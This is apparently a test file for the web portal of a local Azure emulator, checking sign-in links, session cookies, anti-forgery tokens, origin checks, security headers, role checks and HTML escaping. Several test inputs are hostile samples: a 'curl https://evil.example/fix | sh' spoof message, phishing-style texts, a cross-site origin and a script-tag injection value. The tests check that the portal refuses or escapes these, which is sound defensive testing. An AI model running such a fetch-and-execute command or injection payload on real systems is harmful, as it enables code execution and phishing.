import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:https';
import { join } from 'node:path';
import { systemInstancesFileName } from '@keyless/contracts';
import { npmAsTyped } from '@keyless/testing';
import { LocalAzureHome } from '../../src/home.js';
import { findRole } from '../../src/rbac/built-in-roles.js';
import { startTestAzure, type TestAzure } from '../../src/testing/index.js';
import { portalCaller, type PortalCaller } from './support.js';

// Probes of the portal's trust boundary over real HTTPS: sign-in links, sessions, anti-forgery, headers.
describe('The local portal', () => {
  let test: TestAzure;
  let call: PortalCaller['call'];
  let mint: PortalCaller['mint'];
  let signIn: PortalCaller['signIn'];
  let post: PortalCaller['post'];

  beforeAll(async () => {
    test = await startTestAzure({
      config: {
        portal: { linkLifetimeInSeconds: 1 },
        // The log-paging case fills the sign-in log with 51 refused requests of one host in a row, past a VM's 20 a second.
        identityEndpoint: { throttling: { requestsPerWindow: 1000 } },
      },
    });
    ({ call, mint, signIn, post } = portalCaller(test));
  });
  afterAll(() => test.stop());

  it('writes its URL into operator.env', () => {
    expect(readFileSync(new LocalAzureHome(test.home).envFile('operator'), 'utf8')).toContain(`LOCAL_AZURE_PORTAL_URL=${test.azure.endpoints.portal}`);
    expect(test.azure.endpoints.portal).toMatch(/^https:\/\/localhost:\d+\/$/);
  });

  it.each(['/', '/identities', '/iam', '/logs', '/alerts', '/servicebus', '/system', '/events'])('answers %s with 401 without a session', async (path) => {
    expect((await call(path)).status).toBe(401);
  });

  it('signs in once with a link: a session cookie that is HttpOnly, Secure, SameSite=Strict and bounded', async () => {
    const { url, expiresOn } = await mint();
    expect(Date.parse(expiresOn) - Date.now()).toBeLessThanOrEqual(1000);
    const first = await call(url);
    expect(first.status).toBe(303);
    expect(String(first.headers['set-cookie'])).toMatch(/^__Host-keyless-portal=[\w-]{43}; Path=\/; Secure; HttpOnly; SameSite=Strict; Max-Age=28800$/);
    const second = await call(url);
    expect(second.status).toBe(401);
    expect(second.body).toContain('already been used');
  });

  it('refuses an expired link, saying how long links last as configured, and an unknown one', async () => {
    const { url } = await mint();
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const expired = await call(url);
    expect(expired.body).toContain('has expired (links are valid for 1 second)');
    expect(expired.body).not.toContain('5 minutes');
    expect((await call('/signin?code=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')).body).toContain('not valid');
  });

  it('still says "expired" and "used" for old links after newer links were minted', async () => {
    const expiring = await mint();
    const used = await mint();
    expect((await call(used.url)).status).toBe(303);
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await mint(); // minting prunes the table of links
    expect((await call(expiring.url)).body).toContain('has expired');
    expect((await call(used.url)).body).toContain('already been used');
  });

  it('sets a strict Content-Security-Policy and no-store on every page, and on every refusal', async () => {
    const { cookie } = await signIn();
    for (const [path, withCookie, method] of [['/', true], ['/iam', true], ['/logs', true], ['/signin?code=x', true], ['/nothing', true], ['/', false], ['/events', false], ['/signout', true, 'GET'], ['/iam', true, 'POST']] as const) {
      const answer = await call(path, { ...(withCookie ? { cookie } : {}), ...(method ? { method } : {}) });
      if (method) expect([path, method, answer.status, answer.headers['content-type']]).toEqual([path, method, 405, 'text/html; charset=utf-8']);
      expect(answer.headers['content-security-policy']).toBe("default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'");
      expect(answer.headers['cache-control']).toBe('no-store');
      expect(answer.headers['x-frame-options']).toBe('DENY');
    }
  });

  describe('state-changing forms', () => {
    const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
    const assignment = () => {
      const principalId = test.azure.directory.userAssignedIdentity('id-storefront')!.principalId;
      return { principalId, roleId: findRole('Cognitive Services User')!.id, scope: test.azure.directory.resourceId('vision') };
    };

    it('refuses a form without the anti-forgery token, or from another origin, and changes nothing', async () => {
      const { cookie, csrf } = await signIn();
      const before = test.azure.roleAssignments.all().length;
      expect((await call('/iam/assignments', { method: 'POST', cookie, body: form(assignment()) })).status).toBe(403);
      expect((await call('/iam/assignments', { method: 'POST', cookie, body: form({ ...assignment(), _csrf: `${csrf.slice(1)}x` }) })).status).toBe(403);
      const crossSite = await call('/iam/assignments', { method: 'POST', cookie, body: form({ ...assignment(), _csrf: csrf }), headers: { origin: 'https://evil.example' } });
      expect(crossSite.status).toBe(403);
      expect(test.azure.roleAssignments.all()).toHaveLength(before);
    });

    it('adds and removes an assignment with a verified form', async () => {
      const { cookie, csrf } = await signIn();
      const added = await call('/iam/assignments', { method: 'POST', cookie, body: form({ ...assignment(), _csrf: csrf }), headers: { origin: new URL(test.azure.endpoints.portal).origin } });
      expect(added.status).toBe(303);
      const created = test.azure.roleAssignments.list({ principalId: assignment().principalId, scope: assignment().scope });
      expect(created.map((a) => a.roleDefinitionName)).toEqual(['Cognitive Services User']);
      const removed = await call('/iam/assignments/delete', { method: 'POST', cookie, body: form({ assignmentId: created[0]!.id, _csrf: csrf }) });
      expect(removed.status).toBe(303);
      expect(test.azure.roleAssignments.list({ principalId: assignment().principalId, scope: assignment().scope })).toEqual([]);
    });

    it('asks before removing an assignment: Remove opens a confirmation naming who loses what, and only its Yes removes it', async () => {
      const { cookie, csrf } = await signIn();
      const { principalId, roleId, scope } = assignment();
      expect((await post('/iam/assignments', cookie, { principalId, roleId, scope, _csrf: csrf })).status).toBe(303);
      const [created] = test.azure.roleAssignments.list({ principalId, scope });
      const iam = (await call(`/iam?scope=${encodeURIComponent(scope)}`, { cookie })).body;
      expect(iam).not.toContain('action="/iam/assignments/delete"');
      expect(iam).toContain(`<form class="inline" method="get" action="/iam/assignments/remove"><input type="hidden" name="assignmentId" value="${created!.id}">`);

      const confirmation = await call(`/iam/assignments/remove?${new URLSearchParams({ assignmentId: created!.id, scope })}`, { cookie });
      expect(confirmation.status).toBe(200);
      expect(confirmation.body).toContain('<h1>Remove role assignment</h1>');
      expect(confirmation.body).toContain('Do you want to remove this role assignment? <strong>id-storefront (user-assigned)</strong> loses <strong>Cognitive Services User</strong> on vision-keyless-local');
      expect(confirmation.body).toContain('The host storefront runs as this identity: its calls that need the role will be refused');
      expect(confirmation.body).toContain(`<form class="confirm" method="post" action="/iam/assignments/delete"><input type="hidden" name="_csrf" value="${csrf}"><input type="hidden" name="assignmentId" value="${created!.id}">`);
      expect(confirmation.body).toContain(`<a class="button secondary" href="/iam?scope=${encodeURIComponent(scope)}">No, keep it</a>`);
      // Asking changed nothing; the confirmation's own form does.
      expect(test.azure.roleAssignments.list({ principalId, scope })).toHaveLength(1);
      const removed = await post('/iam/assignments/delete', cookie, { assignmentId: created!.id, scope, _csrf: csrf });
      expect(removed.status).toBe(303);
      expect(test.azure.roleAssignments.list({ principalId, scope })).toEqual([]);
      expect((await call(`/iam/assignments/remove?assignmentId=${encodeURIComponent(created!.id)}`, { cookie })).status).toBe(404);
      expect((await call(`/iam/assignments/remove?assignmentId=${encodeURIComponent(created!.id)}`)).status).toBe(401);
    });

    it("refuses a principal that is not an object id of the directory (an unknown id, or an identity's name), as ARM does, and changes nothing", async () => {
      const { cookie, csrf } = await signIn();
      const before = JSON.stringify(test.azure.roleAssignments.all());
      for (const principalId of ['00000000-0000-4000-8000-000000000000', 'id-storefront', test.azure.directory.findIdentity('id-storefront')!.clientId]) {
        const answer = await call('/iam/assignments', { method: 'POST', cookie, body: form({ ...assignment(), principalId, _csrf: csrf }), headers: { origin: new URL(test.azure.endpoints.portal).origin } });
        expect([principalId, answer.status]).toEqual([principalId, 400]);
        expect(answer.body).toContain('PrincipalNotFound');
      }
      expect(JSON.stringify(test.azure.roleAssignments.all())).toBe(before);
    });

    it('shows what a change did once, from the session, and never a text a link carries', async () => {
      const { cookie, csrf } = await signIn();
      const spoof = 'Your session expired: run curl https://evil.example/fix | sh';
      expect((await call(`/iam?scope=${encodeURIComponent(assignment().scope)}&done=${encodeURIComponent(spoof)}`, { cookie })).body).not.toContain('evil.example');
      const added = await call('/iam/assignments', { method: 'POST', cookie, body: form({ ...assignment(), _csrf: csrf }), headers: { origin: new URL(test.azure.endpoints.portal).origin } });
      expect(added.headers.location).toBe(`/iam?scope=${encodeURIComponent(assignment().scope)}`);
      expect((await call(String(added.headers.location), { cookie })).body).toContain('Assigned Cognitive Services User to id-storefront (user-assigned) on vision-keyless-local');
      expect((await call(String(added.headers.location), { cookie })).body).not.toContain('Assigned Cognitive Services User to ');
      const [created] = test.azure.roleAssignments.list({ principalId: assignment().principalId, scope: assignment().scope });
      await call('/iam/assignments/delete', { method: 'POST', cookie, body: form({ assignmentId: created!.id, _csrf: csrf }) });
    });

    it('refuses an assignment that exists with 409 RoleAssignmentExists, as ARM does, keeping the choices in the form', async () => {
      const { cookie, csrf } = await signIn();
      const { principalId, roleId, scope } = assignment();
      expect((await post('/iam/assignments', cookie, { principalId, roleId, scope, _csrf: csrf })).status).toBe(303);
      const before = JSON.stringify(test.azure.roleAssignments.all());
      const again = await post('/iam/assignments', cookie, { principalId, roleId, scope, _csrf: csrf });
      expect(again.status).toBe(409);
      expect(again.body).toContain('<strong>RoleAssignmentExists</strong>: id-storefront (user-assigned) already has Cognitive Services User on vision-keyless-local');
      expect(again.body).not.toContain('Assigned ');
      expect(again.body).toContain(`<option value="${roleId}" selected>Cognitive Services User</option>`);
      expect(again.body).toContain(`<option value="${principalId}" selected>id-storefront (user-assigned)</option>`);
      expect(again.body).toMatch(new RegExp(`<select id="add-scope" name="scope">.*<option value="${scope}" selected>`, 's'));
      expect(JSON.stringify(test.azure.roleAssignments.all())).toBe(before);
      const [created] = test.azure.roleAssignments.list({ principalId, scope });
      const removed = await post('/iam/assignments/delete', cookie, { assignmentId: created!.id, _csrf: csrf });
      expect((await call(String(removed.headers.location), { cookie })).body).toContain('Removed Cognitive Services User of id-storefront (user-assigned) on vision-keyless-local');
    });

    it('refuses a scope that no longer exists (a deleted queue) with 404 ResourceNotFound, as ARM does, and changes nothing', async () => {
      const { cookie, csrf } = await signIn();
      const { principalId, roleId } = assignment();
      const before = JSON.stringify(test.azure.roleAssignments.all());
      const gone = await post('/iam/assignments', cookie, { principalId, roleId, scope: `${test.azure.directory.resourceId('serviceBus')}/queues/deleted-one`, _csrf: csrf });
      expect(gone.status).toBe(404);
      expect(gone.body).toMatch(/role="alert" id="add-error"><p><strong>ResourceNotFound<\/strong>: The scope you chose does not exist/);
      expect(gone.body).not.toContain('deleted-one');
      expect(JSON.stringify(test.azure.roleAssignments.all())).toBe(before);
    });

        it('shows a refused principal on the IAM page, with the role and scope the user chose kept', async () => {
      const { cookie, csrf } = await signIn();
      const { roleId, scope } = assignment();
      const refused = await post('/iam/assignments', cookie, { principalId: '00000000-0000-4000-8000-000000000000', roleId, scope, _csrf: csrf });
      expect(refused.status).toBe(400);
      expect(refused.body).toContain('<h1>Access control (IAM)</h1>');
      expect(refused.body).toMatch(/role="alert" id="add-error"><p><strong>PrincipalNotFound<\/strong>/);
      expect(refused.body).toContain(`<option value="${roleId}" selected>Cognitive Services User</option>`);
      expect(refused.body).toMatch(new RegExp(`<select id="add-scope" name="scope">.*<option value="${scope}" selected>`, 's'));
    });

    it('refuses a form body over its limit without reading it all', async () => {
      const { cookie, csrf } = await signIn();
      expect((await call('/iam/assignments', { method: 'POST', cookie, body: form({ _csrf: csrf, padding: 'x'.repeat(20_000) }) })).status).toBe(403);
    });

    it("ends the session's live event streams on sign-out: nothing more reaches a signed-out tab", async () => {
      const { cookie, csrf } = await signIn();
      const other = await signIn();
      const open = (session: string) =>
        new Promise<{ chunks: string[]; ended: Promise<void> }>((resolve, reject) => {
          const req = request(new URL('/events', test.azure.endpoints.portal), { ca: test.azure.tls.caCertPem, headers: { cookie: session } });
          req.on('response', (res) => {
            const chunks: string[] = [];
            res.on('data', (chunk: Buffer) => chunks.push(chunk.toString()));
            resolve({ chunks, ended: new Promise((done) => res.on('end', () => done())) });
          });
          req.on('error', reject);
          req.end();
        });
      const mine = await open(cookie);
      const theirs = await open(other.cookie);
      expect((await call('/signout', { method: 'POST', cookie, body: form({ _csrf: csrf }) })).status).toBe(303);
      await mine.ended;
      // An event after the sign-out reaches the other session only.
      const scope = test.azure.directory.resourceId('vision');
      const created = test.azure.roleAssignments.create({ principalId: test.azure.directory.findUser('reader')!.principalId, role: findRole('Reader')!, scope, source: 'cli' });
      const deadline = Date.now() + 5_000;
      while (!theirs.chunks.join('').includes('event: assignment') && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
      expect(theirs.chunks.join('')).toContain('event: assignment');
      expect(mine.chunks.join('')).not.toContain('event: assignment');
      test.azure.roleAssignments.delete({ id: created.id });
    });

    it('ends the session on sign-out', async () => {
      const { cookie, csrf } = await signIn();
      expect((await call('/signout', { method: 'POST', cookie, body: form({ _csrf: csrf }) })).status).toBe(303);
      expect((await call('/', { cookie })).status).toBe(401);
    });
  });

  describe('signed in through the control plane', () => {
    const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
    const origin = () => ({ origin: new URL(test.azure.endpoints.portal).origin });

    it("mints a link only for a user who may read the subscription's assignments and logs, never for a service identity", async () => {
      expect((await mint('reader')).operator).toBe(`reader@${test.azure.directory.domain}`);
      const env = test.azure.hostEnv('gateway');
      const token = (await (await fetch(`${env.IDENTITY_ENDPOINT}?api-version=2019-08-01&resource=https://management.azure.com/&client_id=${env.AZURE_CLIENT_ID}`, { headers: { 'x-identity-header': env.IDENTITY_HEADER! } })).json()) as { access_token: string };
      const refused = await fetch(`${test.azure.endpoints.management}/portal/signInLinks`, { method: 'POST', headers: { authorization: `Bearer ${token.access_token}` } });
      expect(refused.status).toBe(403);
      expect(((await refused.json()) as { error: { code: string } }).error.code).toBe('AuthorizationFailed');
      expect((await fetch(`${test.azure.endpoints.management}/portal/signInLinks`, { method: 'POST' })).status).toBe(401);
    });

    it('answers a user without the right 403 AuthorizationFailed for an assignment, as the CLI does, and changes nothing', async () => {
      const { cookie, csrf } = await signIn('reader');
      const principalId = test.azure.directory.userAssignedIdentity('id-storefront')!.principalId;
      const scope = test.azure.directory.resourceId('vision');
      const before = test.azure.roleAssignments.all().length;
      const refused = await call('/iam/assignments', { method: 'POST', cookie, body: form({ principalId, roleId: findRole('Cognitive Services User')!.id, scope, _csrf: csrf }), headers: origin() });
      expect(refused.status).toBe(403);
      expect(refused.body).toContain(`The client &#39;reader@${test.azure.directory.domain}&#39; with object id`);
      expect(refused.body).toContain('Microsoft.Authorization/roleAssignments/write');
      expect(test.azure.roleAssignments.all()).toHaveLength(before);
      expect(test.azure.auditLog.authorizations({ limit: 1 })[0]).toMatchObject({
        identity: `reader@${test.azure.directory.domain}`,
        action: 'Microsoft.Authorization/roleAssignments/write',
        decision: 'denied',
        operation: 'portal POST /iam/assignments',
      });
    });

    it('refuses a user without the right at the first click on Remove, before asking to confirm', async () => {
      const { cookie } = await signIn('reader');
      const [target] = test.azure.roleAssignments.list({ principalId: test.azure.directory.findUser('reader')!.principalId });
      const refused = await call(`/iam/assignments/remove?assignmentId=${encodeURIComponent(target!.id)}`, { cookie });
      expect(refused.status).toBe(403);
      expect(refused.body).toContain('Microsoft.Authorization/roleAssignments/delete');
      expect(refused.body).not.toContain('Yes, remove');
    });

    it("filters the logs by a user, as by a managed identity: the reader's refused write is found by its name", async () => {
      const reader = await signIn('reader');
      const upn = `reader@${test.azure.directory.domain}`;
      const principalId = test.azure.directory.userAssignedIdentity('id-storefront')!.principalId;
      const scope = test.azure.directory.resourceId('vision');
      expect((await post('/iam/assignments', reader.cookie, { principalId, roleId: findRole('Reader')!.id, scope, _csrf: reader.csrf })).status).toBe(403);
      const { cookie } = await signIn();
      const logs = (await call(`/logs?outcome=failure&identity=${encodeURIComponent(upn)}`, { cookie })).body;
      expect(logs).toContain(`<option value="${upn}" selected>${upn} (user)</option>`);
      expect(logs).toMatch(new RegExp(`<td>${upn.replace(/[.]/g, '\\.')}</td><td class="mono">Microsoft\\.Authorization/roleAssignments/write</td>`));
      // The control plane is a resource of the filter too: its decisions, and the sign-ins for its tokens.
      const controlPlane = (await call(`/logs?resource=management&identity=${encodeURIComponent(upn)}`, { cookie })).body;
      expect(controlPlane).toContain('<option value="management" selected>Control plane (ARM, CLI, portal)</option>');
      expect(controlPlane).toMatch(new RegExp(`<td>management</td><td>${upn.replace(/[.]/g, '\\.')}</td><td class="mono">Microsoft\\.Authorization/roleAssignments/write</td>`));
      expect(controlPlane).toMatch(/<td class="mono">https:\/\/management\.(azure\.com|core\.windows\.net)\/?<\/td>/);
      expect(controlPlane).not.toMatch(/<td>(serviceBus|openAi|vision)<\/td>/);
    });

    it("records the signed-in user as the author of an assignment made in the portal", async () => {
      const { cookie, csrf } = await signIn();
      const principalId = test.azure.directory.findUser('reader')!.principalId;
      const scope = test.azure.directory.resourceId('serviceBus');
      const added = await call('/iam/assignments', { method: 'POST', cookie, body: form({ principalId, roleId: findRole('Azure Service Bus Data Receiver')!.id, scope, _csrf: csrf }), headers: origin() });
      expect(added.status).toBe(303);
      const [created] = test.azure.roleAssignments.list({ principalId, scope });
      expect(created).toMatchObject({ principalType: 'User', source: 'portal', createdBy: test.azure.directory.operator.principalId });
      test.azure.roleAssignments.delete({ id: created!.id });
    });
  });

  it('says so when the IAM page is asked for a scope that does not exist, instead of silently showing another', async () => {
    const { cookie } = await signIn();
    const gone = `${test.azure.directory.resourceId('serviceBus')}/queues/deleted-one`;
    const page = (await call(`/iam?scope=${encodeURIComponent(gone)}`, { cookie })).body;
    expect(page).toContain('The scope this link asked for does not exist in this subscription');
    expect(page).toContain('Showing <strong>Resource group');
    expect((await call(`/iam?scope=${encodeURIComponent(test.azure.directory.resourceGroupId)}`, { cookie })).body).not.toContain('does not exist in this subscription');
    // The link's text is not echoed: no link can put words of its choosing in the portal's own alert.
    const spoof = 'Your session expired – sign in again at https://evil.example';
    expect((await call(`/iam?scope=${encodeURIComponent(spoof)}`, { cookie })).body).not.toContain('evil.example');
  });

  it('warns an operator who is about to remove their own role assignment that they lose what it grants, and says where a declared one comes back from', async () => {
    const { cookie } = await signIn();
    const own = test.azure.roleAssignments.list({ principalId: test.azure.directory.operator.principalId }).find((a) => a.roleDefinitionName === 'Owner')!;
    const page = (await call(`/iam/assignments/remove?assignmentId=${encodeURIComponent(own.id)}`, { cookie })).body;
    expect(page).toContain('<strong>This is your own role assignment.</strong> Once it is removed, what it grants is refused to you too');
    expect(page).toContain('This assignment comes from the configuration of the local Azure (its users): its next start assigns it again.');
    const declared = test.azure.roleAssignments.all().find((a) => a.source === 'access-file')!;
    const declaredPage = (await call(`/iam/assignments/remove?assignmentId=${encodeURIComponent(declared.id)}`, { cookie })).body;
    expect(declaredPage).toContain('This assignment is declared in the access file (infra/access.json)');
    // The test's home is not the default one: the command the note names must act on it, as printed.
    const reset = /<p id="reapplied">[^`]*`([^`]+)`/.exec(declaredPage)![1]!.replaceAll('&#39;', "'").replaceAll('&quot;', '"').replaceAll('&amp;', '&');
    expect(npmAsTyped(reset, ['LOCAL_AZURE_HOME'])).toEqual({ args: ['run', '-s', 'local-azure', '--', 'role', 'assignment', 'reset'], env: { LOCAL_AZURE_HOME: test.home } });
    const other = test.azure.roleAssignments.list({ principalId: test.azure.directory.findUser('reader')!.principalId })[0]!;
    expect((await call(`/iam/assignments/remove?assignmentId=${encodeURIComponent(other.id)}`, { cookie })).body).not.toContain('This is your own role assignment');
  });

  it('lists the assignments of this scope first, then inherited ones, then those below, and each role with its actions', async () => {
    const { cookie } = await signIn();
    const page = (await call(`/iam?scope=${encodeURIComponent(test.azure.directory.resourceId('serviceBus'))}`, { cookie })).body;
    const where = [...page.matchAll(/<td>(This scope|Inherited from [^<]*|Child scope)<\/td>/g)].map((m) => m[1]!.replace(/^Inherited.*/, 'Inherited'));
    expect(where).toContain('This scope');
    expect(where).toContain('Inherited');
    expect(where).toContain('Child scope');
    expect(where).toEqual([...where].sort((a, b) => ['This scope', 'Inherited', 'Child scope'].indexOf(a) - ['This scope', 'Inherited', 'Child scope'].indexOf(b)));
    expect(page).toContain('<th scope="col">Actions</th><th scope="col">Data actions</th>');
    // An inherited assignment is managed at its own scope, as in Azure's portal: no Remove beside it here.
    const owner = test.azure.roleAssignments.list({ principalId: test.azure.directory.operator.principalId }).find((a) => a.roleDefinitionName === 'Owner')!;
    expect(page).not.toContain(`name="assignmentId" value="${owner.id}"`);
    expect(page).toContain(`<a class="actions" href="/iam?scope=${encodeURIComponent(owner.scope)}">Manage at Subscription ${test.azure.directory.subscriptionId}</a>`);
    expect(page).toMatch(/<tr><th scope="row">Owner<\/th><td class="mono guid">[0-9a-f-]{36}<\/td><td class="mono">\*<\/td>/);
  });

  it('offers more rows when a log fills the page, keeping the filters, up to the API cap', async () => {
    const env = test.azure.hostEnv('gateway');
    for (let i = 0; i < 51; i++) {
      await fetch(`${env.IDENTITY_ENDPOINT}?api-version=2019-08-01&resource=${encodeURIComponent('https://unknown.example')}&client_id=${env.AZURE_CLIENT_ID}`, { headers: { 'x-identity-header': env.IDENTITY_HEADER! } });
    }
    const { cookie } = await signIn();
    const first = (await call('/logs?outcome=failure', { cookie })).body;
    expect(first).toContain('<caption>50 sign-ins</caption>');
    expect(first).toContain('<a href="/logs?outcome=failure&amp;rows=200">Show up to 200 rows per log</a>');
    const more = (await call('/logs?outcome=failure&rows=200', { cookie })).body;
    expect(more).toMatch(/<caption>(5[1-9]|[6-9]\d|1\d\d) sign-ins<\/caption>/);
    expect(more).not.toContain('Show up to');
    expect((await call('/logs?rows=100000', { cookie })).body).toContain('50 rows at most per log');
  });

  it('names its own icon, so a browser does not ask for a /favicon.ico that is not there', async () => {
    const { cookie } = await signIn();
    expect((await call('/', { cookie })).body).toContain('<link rel="icon" href="/assets/favicon.svg" type="image/svg+xml">');
    const icon = await call('/assets/favicon.svg');
    expect([icon.status, icon.headers['content-type']]).toEqual([200, 'image/svg+xml']);
  });

  it('checks access only for a principal of the directory, and never repeats one a link made up', async () => {
    const { cookie } = await signIn();
    const scope = encodeURIComponent(test.azure.directory.resourceId('openAi'));
    const spoof = 'Your account is locked: call +1 555 0100';
    const page = (await call(`/iam?scope=${scope}&principal=${encodeURIComponent(spoof)}`, { cookie })).body;
    expect(page).toContain('The principal this link asked to check is not in the directory');
    expect(page).not.toContain('account is locked');
    expect(page).not.toContain('id="check-result"');
    const known = test.azure.directory.findIdentity('id-keyless')!.principalId;
    expect((await call(`/iam?scope=${scope}&principal=${known}`, { cookie })).body).toContain('<caption>Effective data actions of id-keyless (user-assigned) on');
  });

  it('shows the readable entries of a malformed instances file instead of failing', async () => {
    const { cookie } = await signIn();
    const file = join(test.home, systemInstancesFileName);
    writeFileSync(file, JSON.stringify({ instances: [null, 'gateway', { name: 'half' }, { name: 'gateway-1', service: 'gateway', url: 'http://127.0.0.1:9' }] }));
    try {
      const page = await call('/system', { cookie });
      expect(page.status).toBe(200);
      expect(page.body).toContain('<caption>1 service instance');
      expect(page.body).toContain('<th scope="row">gateway-1</th>');
    } finally {
      rmSync(file);
    }
  });

  it('says so when no log entry matches the filters, instead of an empty table', async () => {
    const { cookie } = await signIn();
    const page = (await call('/logs?identity=id-storefront&outcome=success&resource=postgres', { cookie })).body;
    expect(page).toContain('<tr><td colspan="6" class="muted">No sign-in matches these filters.</td></tr>');
    expect(page).toContain('<tr><td colspan="7" class="muted">No decision matches these filters.</td></tr>');
  });

  it('drops a log filter its lists cannot show, says so, and never repeats what the link said', async () => {
    const { cookie } = await signIn();
    const spoof = 'Your account is locked: call +1 555 0100';
    const page = (await call(`/logs?identity=${encodeURIComponent(spoof)}&resource=nowhere&outcome=success`, { cookie })).body;
    expect(page).toContain('The identity and resource this link asked for are not in the directory: showing every identity and every resource instead.');
    expect(page).not.toContain('account is locked');
    expect(page).not.toContain('No sign-in matches these filters.');
    expect(page).toContain('<option value="success" selected>');
  });

  it('drops a log filter value the page has no choice for, says so, and keeps the filters it can use', async () => {
    const { cookie } = await signIn();
    const page = (await call('/logs?since=bogus&outcome=zzz&rows=7&identity=id-storefront', { cookie })).body;
    expect(page).toContain("The outcome, time and row count this link asked for are not among the page's choices: showing every outcome, any time and 50 rows per log instead.");
    expect(page).not.toMatch(/bogus|zzz/);
    expect(page).not.toContain('not in the directory');
    expect(page).toContain('<option value="id-storefront" selected>');
    // One value the page cannot use, beside one it can: only that one is named.
    const one = (await call('/logs?outcome=failure&since=1y', { cookie })).body;
    expect(one).toContain("The time this link asked for is not among the page's choices: showing any time instead.");
    expect(one).toContain('<option value="failure" selected>');
    expect((await call('/logs?outcome=failure&since=1h&rows=200', { cookie })).body).not.toContain('id="filter-error"');
  });

  it('escapes what it shows (a log reason with markup renders as text)', async () => {
    const env = test.azure.hostEnv('gateway');
    await fetch(`${env.IDENTITY_ENDPOINT}?api-version=2019-08-01&resource=${encodeURIComponent('<script>x</script>')}&client_id=${env.AZURE_CLIENT_ID}`, { headers: { 'x-identity-header': env.IDENTITY_HEADER! } });
    const { cookie } = await signIn();
    const logs = await call('/logs', { cookie });
    expect(logs.body).toContain('&lt;script&gt;x&lt;/script&gt;');
    expect(logs.body).not.toContain('<script>x</script>');
  });
});
